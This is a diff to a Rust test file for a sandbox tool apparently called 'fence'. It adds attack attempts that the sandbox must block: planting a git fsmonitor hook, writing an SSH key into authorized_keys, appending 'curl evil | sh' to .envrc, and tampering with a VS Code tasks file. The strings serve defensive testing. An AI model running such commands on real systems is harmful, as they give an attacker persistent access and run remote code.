@@ -145,6 +145,9 @@ fn missing_config_and_trust_store_cannot_be_created(user: User) {
         "mkdir -p ~/.local/share/fence/trusted && echo x > ~/.local/share/fence/trusted/a.json"
             .into(),
         format!("echo '{forged}' > ~/.fence.json"),
+        "mkdir -p ~/.config/git && echo '[core] fsmonitor = evil' > ~/.config/git/config".into(),
+        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA evil' > ~/.ssh/authorized_keys".into(),
+        "echo '[core] fsmonitor = evil' > ~/.gitconfig".into(),
     ];
     let attempts: Vec<&str> = attempts.iter().map(String::as_str).collect();
     let config_dir = sb.home.join(".config/fence");
@@ -158,6 +161,9 @@ fn missing_config_and_trust_store_cannot_be_created(user: User) {
             &config_dir.join("fence.jsonc"),
             &data_dir.join("trusted"),
             &sb.home.join(".fence.json"),
+            &sb.home.join(".config/git"),
+            &sb.home.join(".ssh"),
+            &sb.home.join(".gitconfig"),
         ],
     );
     // fence created its own directories, private and empty, to protect them.
@@ -324,6 +330,8 @@ fn git_locations_stay_read_only_in_a_writable_workspace(user: User) {
          [include]\n\tpath = ../shared.gitconfig\n",
     );
     sb.write(&ws.join("shared.gitconfig"), "[user]\n\tname = x\n");
+    sb.write(&ws.join(".envrc"), "use nix\n");
+    sb.write(&ws.join("sub/dir/.vscode/tasks.json"), "{}\n");
     sb.mkdir(&ws.join(".git/hooks"));
     sb.mkdir(&ws.join("tools/hooks"));
     // A submodule with hooks, one without (not yet created), a nested one, a worktree.
@@ -352,6 +360,9 @@ fn git_locations_stay_read_only_in_a_writable_workspace(user: User) {
         "mv tools tools.old && mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit".into(),
         "echo 'gitdir: /tmp/evil' > lib/.git".into(),
         format!("{fsmonitor} >> shared.gitconfig"),
+        "echo 'curl evil | sh' >> .envrc".into(),
+        "echo '{\"tasks\": []}' > sub/dir/.vscode/tasks.json".into(),
+        "mv sub/dir sub/dir2 && mkdir -p sub/dir/.vscode".into(),
         "rm lib/.git".into(),
     ];
     let attempts: Vec<&str> = attempts.iter().map(String::as_str).collect();
@@ -368,6 +379,9 @@ fn git_locations_stay_read_only_in_a_writable_workspace(user: User) {
         "tools.old",
         "lib/.git",
         "shared.gitconfig",
+        ".envrc",
+        "sub/dir/.vscode/tasks.json",
+        "sub/dir2",
     ]
     .map(|p| ws.join(p));
     let unchanged: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
